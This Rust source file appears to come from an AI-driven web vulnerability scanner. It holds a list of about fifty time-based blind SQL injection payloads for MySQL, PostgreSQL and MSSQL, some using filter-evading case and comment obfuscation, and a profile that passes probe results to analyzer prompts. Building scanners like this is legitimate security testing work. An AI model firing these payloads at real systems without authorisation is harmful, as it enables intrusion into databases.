use async_trait::async_trait;
use serde_json::json;

use crate::agents::worker::{diff_summary, head_chars, VulnProfile};
use crate::agents::ScanContext;
use crate::core::executor::ProbeResult;
use crate::core::VulnKind;
use crate::prompts::{SQLI_ANALYZER_PROMPT, SQLI_GENERATOR_PROMPT};

/// Static first-wave payloads: time-based, benchmark and stacked-delay
/// probes covering MySQL, PostgreSQL and MSSQL, with quote/paren variants
/// for the common quoting contexts.
pub const SQLI_STATIC_PAYLOADS: &[&str] = &[
    "sleep(5)#",
    "1 or sleep(5)#",
    "\" or sleep(5)#",
    "' or sleep(5)#",
    "\" or sleep(5)=\"",
    "' or sleep(5)='",
    "1) or sleep(5)#",
    "\") or sleep(5)=\"",
    "') or sleep(5)='",
    "1)) or sleep(5)#",
    "\")) or sleep(5)=\"",
    "')) or sleep(5)='",
    ";waitfor delay '0:0:5'--",
    ");waitfor delay '0:0:5'--",
    "';waitfor delay '0:0:5'--",
    "\";waitfor delay '0:0:5'--",
    "');waitfor delay '0:0:5'--",
    "\");waitfor delay '0:0:5'--",
    "));waitfor delay '0:0:5'--",
    "'));waitfor delay '0:0:5'--",
    "\"));waitfor delay '0:0:5'--",
    "benchmark(10000000,MD5(1))#",
    "1 or benchmark(10000000,MD5(1))#",
    "\" or benchmark(10000000,MD5(1))#",
    "' or benchmark(10000000,MD5(1))#",
    "1) or benchmark(10000000,MD5(1))#",
    "\") or benchmark(10000000,MD5(1))#",
    "') or benchmark(10000000,MD5(1))#",
    "1)) or benchmark(10000000,MD5(1))#",
    "\")) or benchmark(10000000,MD5(1))#",
    "')) or benchmark(10000000,MD5(1))#",
    "pg_sleep(5)--",
    "1 or pg_sleep(5)--",
    "\" or pg_sleep(5)--",
    "' or pg_sleep(5)--",
    "1) or pg_sleep(5)--",
    "\") or pg_sleep(5)--",
    "') or pg_sleep(5)--",
    "1)) or pg_sleep(5)--",
    "\")) or pg_sleep(5)--",
    "')) or pg_sleep(5)--",
    "'And(sElect*fRom(SeleCt+SleEp(3))a/**/uNiOn/**/sElect+1)='",
    "\"aNd(seLect*From(seLeCt+sleEp(3))a/**/UniOn/**/selEcT+1)=\"",
    "'/**/And(sEleCt'1'fRom/**/Pg_slEep(3))::text>'0",
    "\"/**/and(sElect'1'frOm/**/Pg_sLeep(3))::text>\"0",
    "(sEleCt*fRom(seLect+slEep(3)union/**/sEleCt+1)a)",
    "'+WAITFOR+DELAY+'0:0:3'--+",
    ";WAITFOR DELAY '0:0:3'--+",
];

/// SQL injection worker profile. A probe whose elapsed time reaches the
/// timeout bound is the time-blind success signal, never a failure.
pub struct SqliProfile;

#[async_trait]
impl VulnProfile for SqliProfile {
    fn kind(&self) -> VulnKind {
        VulnKind::Sqli
    }

    fn label(&self) -> &'static str {
        "SQLi"
    }

    fn finding_type(&self) -> &'static str {
        "SQL Injection"
    }

    fn static_payloads(&self) -> &'static [&'static str] {
        SQLI_STATIC_PAYLOADS
    }

    async fn generator_prompt(&self, _ctx: &ScanContext) -> String {
        SQLI_GENERATOR_PROMPT.to_string()
    }

    fn analyzer_prompt(&self) -> &'static str {
        SQLI_ANALYZER_PROMPT
    }

    fn analyzer_user_content(&self, ctx: &ScanContext, results: &[ProbeResult]) -> String {
        let summary = diff_summary(results, 300);
        format!(
            "Original response snippet: {}\nTest results: {}",
            head_chars(&ctx.response_body, 500),
            json!(summary)
        )
    }
}
